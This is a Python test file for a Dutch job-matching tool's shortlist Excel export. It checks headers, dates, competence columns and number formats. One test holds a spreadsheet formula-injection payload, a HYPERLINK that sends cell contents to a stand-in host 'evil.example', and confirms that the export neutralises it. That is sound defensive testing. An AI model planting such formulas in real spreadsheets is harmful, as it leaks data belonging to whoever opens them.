"""The shortlist workbook: Dutch headers, one row per entry, facts from the explanation."""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook

from matching.shortlist.ranking import Shortlist, ShortlistEntry
from matching.shortlist.shortlist_workbook import HEADERS, shortlist_xlsx


def _entry(rank: int, level: str) -> ShortlistEntry:
    explanation = {
        "candidate": {"municipality": "Noordwijk"},
        "competences": {
            "matched": [{"label": "ramen wassen"}, {"label": "vloeren reinigen"}],
            "missing": [
                {"label": "rijbewijs B", "closest": None},
                {"label": "afval scheiden", "evidence": {"level": "experience", "text": "x: y"}},
            ],
        },
        "hours": {"available": 24.0, "asked": 32.0},
        "readiness": {"ladder_step": 4},
        "summary": "Heeft 2 van de 3 vereiste competenties.",
    }
    return ShortlistEntry(rank, f"K{rank}", 1.5 - rank / 10, 0.6, level, "GM0575", 3.2, explanation)


def test_workbook_rows() -> None:
    shortlist = Shortlist(
        "V1", "prior-1", dt.datetime(2026, 11, 22, 9, 30, tzinfo=dt.UTC), True,
        [_entry(1, "own"), _entry(2, "region")],
    )  # fmt: skip
    sheet = load_workbook(io.BytesIO(shortlist_xlsx(shortlist, title="Schoonmaker"))).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert (
        rows[0][0] == "Vacature V1: Schoonmaker"
        and rows[1][0] == "Gemaakt op 22-11-2026 om 10:30"  # 09:30 UTC in Amsterdam
    )
    assert "Score" not in HEADERS  # the raw ranking score means nothing to a reader
    assert rows[2] == HEADERS and len(rows) == 5
    first = dict(zip(HEADERS, rows[3], strict=True))
    assert first["Kandidaat"] == "K1" and first["Herkomst"] == "eigen gemeente"
    assert first["Competenties aanwezig"] == "ramen wassen; vloeren reinigen"
    assert first["Competenties ontbreken"] == "rijbewijs B" and first["Trede"] == 4
    assert first["Waarschijnlijk aanwezig (werkervaring)"] == "afval scheiden"  # not missing
    assert rows[4][3] == "arbeidsmarktregio (met toestemming)"
    assert first["Kans op duurzame plaatsing"] == 0.6 and sheet["E4"].number_format == "0.0%"
    assert first["Toelichting"] == "Heeft 2 van de 3 vereiste competenties."


def test_formulas_in_ids_and_text_are_not_live() -> None:
    attack = '=HYPERLINK("http://evil.example/?leak="&C4,"Klik hier")'
    entry = _entry(1, "own")
    entry = ShortlistEntry(1, attack, -0.25, 0.6, "own", "GM0575", -3.2, entry.explanation)
    shortlist = Shortlist("V1", "prior-1", dt.datetime(2026, 11, 22, tzinfo=dt.UTC), True, [entry])
    sheet = load_workbook(io.BytesIO(shortlist_xlsx(shortlist, title="@SUM(1+1)"))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["B4"].value == "'" + attack
    assert sheet["F4"].value == -3.2 and sheet["F4"].data_type == "n"  # numbers stay numbers
